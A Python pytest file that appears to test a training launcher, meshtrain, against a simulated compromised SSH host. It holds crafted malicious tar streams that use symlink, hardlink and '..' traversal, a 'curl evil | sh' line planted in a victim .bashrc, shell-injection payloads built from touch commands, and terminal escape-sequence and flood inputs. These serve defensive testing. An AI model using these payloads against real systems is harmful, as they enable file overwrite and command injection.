"""A compromised or misbehaving host against the launcher, over a real sshd on loopback.

The host is made hostile the way a compromised machine would be: its sshd gives every
session a PATH whose only folder the test controls (sshd's ``SetEnv PATH=...``), so the
``tar`` that the launcher's copy-back runs there is the attacker's, emitting a crafted
stream; without a ``tar`` on that PATH the launcher falls back to SFTP, and the run
directory there holds what the host's program made (a symlink out of it). A rank's
program prints look-alike exit frames, escape sequences and a 20 MiB line. Shell
metacharacters go through every inventory value the launcher puts in a remote command.
Nothing of the launcher's own code path is replaced.
"""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from in_process import meshtrain_here
from ssh_fixtures import PYTHON, SshWorld, new_world, start_sshd
from tree_snapshot import snapshot

pytestmark = pytest.mark.slow

TOOLS = ("stty", "ps", "cat", "mkdir", "rm", "sleep", "chmod")  # what the launcher's commands use


@dataclass
class HostileHost:
    world: SshWorld
    bin: Path  # the first (and only) folder on the host sessions' PATH
    attack: Path  # the tar stream the host's `tar` sends

    def arm_tar(self, stream: bytes) -> None:
        """The host's tar now answers every ``tar -cf`` with ``stream``."""
        self.attack.write_bytes(stream)
        tar = self.bin / "tar"
        tar.write_text(f"#!/bin/sh\nexec cat {self.attack}\n")
        tar.chmod(0o755)

    def disarm_tar(self) -> None:
        """No tar at all on the host: the launcher copies with SFTP."""
        (self.bin / "tar").unlink(missing_ok=True)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileHost]:
    if os.geteuid() != 0:
        pytest.skip("the test sshd logs in as root with a generated key; run the tests as root")
    world = new_world(tmp_path_factory.mktemp("hostile-ssh"))
    folder = world.folder / "host-bin"
    folder.mkdir()
    for tool in TOOLS:
        (folder / tool).symlink_to(f"/usr/bin/{tool}")
    server = start_sshd(world.folder / "sshd", world.user_key.with_suffix(".pub"),
                        session_env={"PATH": str(folder)})
    world.servers.append(server)
    world.trust(server)
    try:
        yield HostileHost(world, folder, world.folder / "attack.tar")
    finally:
        server.stop()


# --------------------------------------------------------------------------- helpers
MAKE_RUN_DIR = """
import os, sys
run = os.path.join("runs", os.environ["MESHTRAIN_RUN_ID"])
os.makedirs(run)
open(os.path.join(run, "summary.json"), "w").write("{}")
if len(sys.argv) > 1:  # the host's own run directory holds a link out of it
    os.symlink(sys.argv[1], os.path.join(run, "a"))
print("made", run, flush=True)  # a line for the rank's log, which the launcher keeps
"""


def box2(host: HostileHost, place: Path, **defaults: object) -> Path:
    """An inventory of the one hostile host, box2 (workdir under ``place`` unless given)."""
    defaults.setdefault("workdir", str(place / "remote"))
    port = host.world.servers[0].port
    return host.world.inventory(place / "inv.yaml", [{"name": "box2", "host": "127.0.0.1", "port": port}],
                                **defaults)


def launch_maker(host: HostileHost, place: Path, *args: str, extra: tuple[str, ...] = ()) -> tuple[
        int, str, str]:
    """Launch the script that makes a run directory on the host; (status, output, run id)."""
    script = place / "maker.py"
    script.write_text(MAKE_RUN_DIR)
    run_id = f"r-{uuid.uuid4().hex[:6]}"
    done = meshtrain_here("launch", str(box2(host, place)), "--run-id", run_id,
                          "--out", str(place / "local" / "out"), "--plain", *extra, "--upload", str(script),
                          "--", "python", "maker.py", *args, cwd=place)
    return done.returncode, done.stdout + done.stderr, run_id


def tar_of(*members: tuple[tarfile.TarInfo, bytes | None]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "",
           size: int | None = None) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    if kind != tarfile.REGTYPE:
        return info, None
    info.size = len(data) if size is None else size
    return info, data


def sandbox(tmp_path: Path) -> tuple[Path, Path]:
    """``local`` (the launcher's side: out/ and a victim tree beside it) and its victim."""
    local, victim = tmp_path / "local", tmp_path / "local" / "victim"
    victim.mkdir(parents=True)
    (victim / ".bashrc").write_text("# the researcher's own\n")
    (victim / "keep").mkdir()
    return local, victim


def assert_refused(status: int, output: str, line: str, local: Path, before: dict, run_id: str) -> None:
    assert status == 1, output
    assert f"meshtrain: box2 sent an unsafe run directory: {line}" in output.splitlines(), output
    assert "run directory copied" not in output and "Traceback" not in output
    out = local / "out"
    # Nothing outside the new run directory changed, and no part of that directory is left:
    # out/ holds only the ranks' own logs (the launcher's, not the host's).
    assert sorted(p.name for p in out.iterdir()) == [f"{run_id}.ranks"], output
    after = snapshot(local)
    assert {k: v for k, v in after.items() if not k.startswith("out")} == before


# --------------------------------------------------------------------------- item 1: copy-back
@pytest.mark.parametrize("attack", ["symlink chain", "hardlink", "dot-dot", "absolute", "huge member"])
def test_a_crafted_tar_stream_changes_nothing_outside_the_run_directory(
        hostile: HostileHost, tmp_path: Path, attack: str) -> None:
    local, victim = sandbox(tmp_path)
    streams = {
        # tarfile's data-filter bypass: a link to the victim, then a file written through it.
        "symlink chain": ([member("./a", tarfile.SYMTYPE, link=str(victim)),
                           member("./a/.bashrc", data=b"curl evil | sh\n")], f"link 'a' -> '{victim}'"),
        "hardlink": ([member("./h", tarfile.LNKTYPE, link=str(victim / ".bashrc")),
                      member("./h", data=b"curl evil | sh\n")], f"hardlink 'h' -> '{victim}/.bashrc'"),
        "dot-dot": ([member("../victim/.bashrc", data=b"curl evil | sh\n")],
                    "name '../victim/.bashrc' goes up a directory ('..')"),
        "absolute": ([member(str(victim / "new"), data=b"x")], f"absolute name '{victim}/new'"),
        "huge member": ([member("./model.pt", data=b"\0" * (2 << 20))],
                        "more than 1048576 bytes in total (at 'model.pt'); "
                        "raise the cap with --copy-back-limit"),
    }
    members, line = streams[attack]
    hostile.arm_tar(tar_of(member("./summary.json", data=b"{}"), *members))
    before = snapshot(local)
    status, output, run_id = launch_maker(hostile, tmp_path, extra=("--copy-back-limit", "1MiB"))
    assert_refused(status, output, line, local, before, run_id)


def test_the_sftp_fallback_refuses_a_link_in_the_run_directory(hostile: HostileHost, tmp_path: Path) -> None:
    local, victim = sandbox(tmp_path)
    hostile.disarm_tar()
    before = snapshot(local)
    status, output, run_id = launch_maker(hostile, tmp_path, str(victim))
    assert "copying box2:" in output, output
    assert_refused(status, output, f"link 'a' -> '{victim}'", local, before, run_id)


def test_an_honest_host_is_copied_by_both_paths(hostile: HostileHost, tmp_path: Path) -> None:
    for via in ("tar", "sftp"):
        place = tmp_path / via
        place.mkdir()
        if via == "tar":
            hostile.arm_tar(tar_of(member("./", tarfile.DIRTYPE), member("./summary.json", data=b"{}")))
        else:
            hostile.disarm_tar()
        status, output, run_id = launch_maker(hostile, place)
        assert status == 0, output
        assert (place / "local" / "out" / run_id / "summary.json").read_text() == "{}"


# --------------------------------------------------------------------------- item 6: what a host prints
LOUD = r"""
import os, re, sys
# The exit frame's key: in no environment and on no command line this program can read.
seen, pid = open("/proc/self/environ", "rb").read(), os.getpid()
while pid > 1:
    seen += open(f"/proc/{pid}/cmdline", "rb").read()
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
print("key visible" if re.search(rb"[0-9a-f]{32}", seen) else "key hidden", flush=True)
print("__MESHTRAIN_EXIT__ 0", flush=True)  # the old marker: text now
print("__MESHTRAIN_EXIT__", flush=True)  # a bare one killed the reader thread before
print("\x02MESHTRAIN_EXIT " + "0" * 32 + " 0\x03", flush=True)  # a frame with a guessed key
print("__MESHTRAIN_PID__ 1", flush=True)
print("\x1b[2J\x1b]0;pwned\x07 plain \x1b[31mred\tTAB", flush=True)
sys.stdout.write("y" * (20 << 20))  # 20 MiB without a newline
sys.stdout.flush()
print("END", flush=True)
print("still read", flush=True)
sys.exit(3)
"""


def test_what_a_rank_prints_cannot_end_it_or_reach_the_terminal(hostile: HostileHost, tmp_path: Path) -> None:
    hostile.disarm_tar()
    inv = box2(hostile, tmp_path)
    (tmp_path / "loud.py").write_text(LOUD)
    done = meshtrain_here("launch", str(inv), "--plain", "--out", str(tmp_path / "out"),
                          "--upload", str(tmp_path / "loud.py"), "--", "python", "loud.py", cwd=tmp_path)
    output = done.stdout + done.stderr
    lines = output.splitlines()
    # The forged markers and frame are shown as text; the real status (3) ends the rank.
    assert done.returncode == 1, output[-3000:]
    port = hostile.world.servers[0].port
    assert f"rank 0 on box2 (root@127.0.0.1:{port}) exited with status 3" in output, output[-3000:]
    assert "box2 r0 | __MESHTRAIN_EXIT__ 0" in lines and "box2 r0 | __MESHTRAIN_EXIT__" in lines
    assert f"box2 r0 | \\x02MESHTRAIN_EXIT {'0' * 32} 0\\x03" in lines
    assert "box2 r0 | __MESHTRAIN_PID__ 1" in lines  # never taken for the process group to kill
    assert "box2 r0 | still read" in lines  # the reader lived through all of it
    assert "box2 r0 | key hidden" in lines
    # Escape sequences are made visible; a tab stays a tab; no raw control byte is printed.
    assert "box2 r0 | \\x1b[2J\\x1b]0;pwned\\x07 plain \\x1b[31mred\tTAB" in lines
    [log] = (tmp_path / "out").glob("*.ranks/box2-r0.log")
    assert not any(ch in output + log.read_text() for ch in "\x1b\x07\x02\x03")
    assert "\\x1b[2J" in log.read_text()
    # The 20 MiB line is cut to 16 KiB, its end kept, with a mark saying how much went.
    long = next(line for line in lines if line.startswith("box2 r0 | yyy"))
    assert len(long.encode()) < 18 * 1024
    assert long.endswith("END") and " … [cut 20.0 MiB] … " in long, long[16000:16500]
    assert "Traceback" not in output


# --------------------------------------------------------------------------- item 4: shell metacharacters
def payload(marker: Path) -> str:
    """Every way into a shell we know of, each trying to create ``marker``."""
    t = f"touch {marker}"
    return f"a;{t};$({t})`{t}`'\"\n&{t}&|{t}|* b"


ECHO = """
import json, os, sys
run = os.path.join("runs", os.environ["MESHTRAIN_RUN_ID"])
os.makedirs(run)
seen = {"arg": sys.argv[1], "env": os.environ["HOSTILE"], "cwd": os.getcwd(), "python": sys.argv[2]}
open(os.path.join(run, "seen.json"), "w").write(json.dumps(seen))
"""


def test_metacharacters_in_every_inventory_value_run_nothing(hostile: HostileHost, tmp_path: Path) -> None:
    hostile.disarm_tar()
    marker = tmp_path / "INJECTED"
    evil = payload(marker)
    workdir = str(tmp_path / f"w {evil}")
    python = tmp_path / f"py {evil}" / "python"  # an interpreter at a hostile path
    python.parent.mkdir(parents=True)
    python.write_text(f'#!/bin/sh\nexec {PYTHON} "$@" "$0"\n')
    python.chmod(0o755)
    inv = box2(hostile, tmp_path, workdir=workdir, python=str(python), env={"HOSTILE": evil})
    (tmp_path / "echo.py").write_text(ECHO)
    out = tmp_path / "out"
    done = meshtrain_here("launch", str(inv), "--plain", "--run-id", "m1", "--out", str(out), "--upload",
                          str(tmp_path / "echo.py"), "--", "python", "echo.py", evil, cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    seen = __import__("json").loads((out / "m1" / "seen.json").read_text())
    assert seen == {"arg": evil, "env": evil, "cwd": workdir, "python": str(python)}  # every value verbatim

    # With --no-ship a data path is tested on the host: reported missing, never run.
    done = meshtrain_here("launch", str(inv), "--plain", "--no-ship", "--data", evil,
                          "--steps", "1", "--out", str(out), cwd=tmp_path)
    assert done.returncode == 2 and f"data {evil}" in done.stderr, done.stdout + done.stderr
    # hosts check sends the interpreter, workdir and device to the host too.
    meshtrain_here("hosts", "check", str(inv), cwd=tmp_path)
    assert not marker.exists()

    # A hostile run id is refused before any host is contacted: one line, exit 2.
    from typer.testing import CliRunner

    from meshtrain.cli.main import app

    for flag in ("--run-id", "--resume"):
        done = CliRunner().invoke(app, ["launch", str(inv), flag, f"r1;touch {marker};",
                                         "--steps", "1"])
        assert done.exit_code == 2, done.stdout + done.stderr
        assert done.stderr.strip() == (f"error: {flag} 'r1;touch {marker};': use letters, digits, '.', '_' "
                                       "and '-' (not starting with '.' or '-'), at most 128 characters")
    assert not marker.exists()


def test_host_answers_are_bounded_and_listings_strict(hostile: HostileHost, tmp_path: Path) -> None:
    from meshtrain.hosts.inventory import load_inventory
    from meshtrain.hosts.ssh import OutputTooLarge, connect, run
    from meshtrain.launch.launcher import LaunchOptions, _Rank, common_checkpoint

    hostile.disarm_tar()
    host = load_inventory(box2(hostile, tmp_path)).hosts[0]
    checkpoints = tmp_path / "remote" / "runs" / "c1.checkpoints"
    for step in ("step-000003", "step-²", "step-1e5", "step-99 ; 1", "step-99\n", "step-000012"):
        (checkpoints / step).mkdir(parents=True)
        # A well-formed meta.json (no node files) where the name is a step: the host checks it.
        number = step.removeprefix("step-")
        (checkpoints / step / "meta.json").write_text(
            f'{{"step": {int(number)}, "files": {{}}}}' if number.isascii() and number.isdigit() else "{}")
    client = connect(host)
    try:
        assert common_checkpoint([_Rank(host, client, 0)], LaunchOptions(run_id="c1")) == 12
        with pytest.raises(OutputTooLarge):  # 2 MiB where 1 MiB may come: not read on
            run(client, f"{PYTHON} -c 'print(\"x\" * (2 << 20))'", max_output=1 << 20)
        # The same on stderr, while stdout stays open: SSH's one window per channel once stalled
        # this until the timeout (the stdout read waited for an end that a blocked writer never sent).
        with pytest.raises(OutputTooLarge):
            run(client, f"{PYTHON} -c 'import sys; sys.stderr.write(\"x\" * (8 << 20)); print(1)'",
                max_output=1 << 20, timeout=30)
        with pytest.raises(OutputTooLarge):  # every question is bounded, not only those that say so
            run(client, f"{PYTHON} -c 'print(\"x\" * (2 << 20))'")
    finally:
        client.close()


def test_a_malformed_shipping_answer_is_one_line(hostile: HostileHost, tmp_path: Path) -> None:
    """The host's blobstore answers with files it was never asked about: refused, named."""
    from meshtrain.hosts.inventory import load_inventory
    from meshtrain.hosts.shipping import ShipError, _host_call
    from meshtrain.hosts.ssh import connect

    fake = tmp_path / "py"  # the host's "python" prints whatever it likes
    fake.write_text('#!/bin/sh\necho \'{"missing": ["/etc/passwd"], "free": 1, "trees_ok": true}\'\n')
    fake.chmod(0o755)
    host = load_inventory(box2(hostile, tmp_path, python=str(fake))).hosts[0]
    client = connect(host)
    try:
        with pytest.raises(ShipError, match="the host's answer is malformed .'missing' names files that "
                                            "were not asked about"):
            _host_call(host, client, "query", {"blobs": {"ab": 1}, "trees": {}}, 10, {"ab"})
    finally:
        client.close()


# --------------------------------------------------------------------------- the hosts commands' probes
#: What a compromised host's interpreter may print where `hosts check` and `hosts setup` expect
#: their probe's one line of JSON.
HOSTILE_ANSWERS = {
    "nested too deeply for the parser": '{"python": "3.11.7", "x": ' + "[" * 5000 + "]" * 5000 + "}",
    "not an object": "[1, 2, 3]",
    "fields of the wrong type": '{"python": ["3"], "venv": "yes", "manifest": 5, "installed": [],'
                                ' "meshtrain": {"a": 1}, "torch": 7}',
    "escape sequences": '{"python": "3.11.7\\u001b[2J", "venv": true, "meshtrain": "\\u001b]0;pwned\\u0007",'
                        ' "torch": "2\\u001b[31m"}',
    "a flood": None,  # 64 MiB of output on one line
}


def fake_python(folder: Path, answer: str | None) -> Path:
    """An executable that prints ``answer`` (or floods) whatever it is asked to run."""
    fake = folder / "python3"
    if answer is None:
        fake.write_text(f"#!/bin/sh\nexec {PYTHON} -c 'import sys; sys.stdout.write(\"x\" * (64 << 20))'\n")
    else:
        (folder / "answer.json").write_text(answer + "\n")
        fake.write_text(f"#!/bin/sh\nexec cat {folder / 'answer.json'}\n")
    fake.chmod(0o755)
    return fake


def assert_refused_in_one_line(done: subprocess.CompletedProcess[str], answer: str) -> None:
    """Exit 1, the host named, no traceback, no raw control character; a flood is named as one."""
    output = done.stdout + done.stderr
    assert done.returncode == 1, output
    assert "Traceback" not in output and not any(ch in output for ch in "\x1b\x07"), output[-3000:]
    assert "box2" in output
    if answer == "a flood":
        assert "the host answered with more than 1048576 bytes" in output, output


@pytest.mark.parametrize("answer", list(HOSTILE_ANSWERS))
def test_hosts_check_reads_a_hostile_probe_answer_as_one_line(hostile: HostileHost, tmp_path: Path,
                                                              answer: str) -> None:
    fake = fake_python(tmp_path, HOSTILE_ANSWERS[answer])
    done = meshtrain_here("hosts", "check", str(box2(hostile, tmp_path, python=str(fake))), cwd=tmp_path)
    assert_refused_in_one_line(done, answer)


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """This meshtrain as a wheel, packed from its installed files (no build for each test)."""
    from meshtrain.hosts.local_install import installed_distribution, repack_installed

    return repack_installed(installed_distribution(), tmp_path_factory.mktemp("wheel"))


@pytest.mark.parametrize("answer", list(HOSTILE_ANSWERS))
def test_hosts_setup_reads_a_hostile_probe_answer_as_one_line(hostile: HostileHost, tmp_path: Path,
                                                              wheel: Path, answer: str) -> None:
    """The host's base interpreter answers the setup's probe (no venv there yet), then, as
    the venv's interpreter, the status probe: each answer is refused with one line."""
    fake = fake_python(tmp_path, HOSTILE_ANSWERS[answer])
    workdir = tmp_path / "remote"
    (workdir / ".venv" / "bin").mkdir(parents=True)
    inv = box2(hostile, tmp_path, python=str(fake), workdir=str(workdir))
    for venv_python in (False, True):
        (workdir / ".venv" / "bin" / "python").unlink(missing_ok=True)
        if venv_python:
            (workdir / ".venv" / "bin" / "python").symlink_to(fake)
        done = meshtrain_here("hosts", "setup", str(inv), "--base-python", str(fake), "--wheel", str(wheel),
                              cwd=tmp_path)
        assert_refused_in_one_line(done, answer)


def test_what_a_host_says_in_a_launch_failure_reaches_the_terminal_as_text(hostile: HostileHost,
                                                                         tmp_path: Path) -> None:
    """The host's interpreter fails writing the launch secret and says why with escape
    sequences: the one-line failure quotes it with the control characters written out."""
    fake = tmp_path / "python3"
    fake.write_text("#!/bin/sh\nprintf 'no\\033[2J\\033]0;pwned\\007 way\\n' >&2\nexit 1\n")
    fake.chmod(0o755)
    done = meshtrain_here("launch", str(box2(hostile, tmp_path, python=str(fake))), "--plain",
                          "--out", str(tmp_path / "out"), "--", "true", cwd=tmp_path)
    output = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in output, output
    assert "no\\x1b[2J\\x1b]0;pwned\\x07 way" in output, output
    assert not any(ch in output for ch in "\x1b\x07"), output
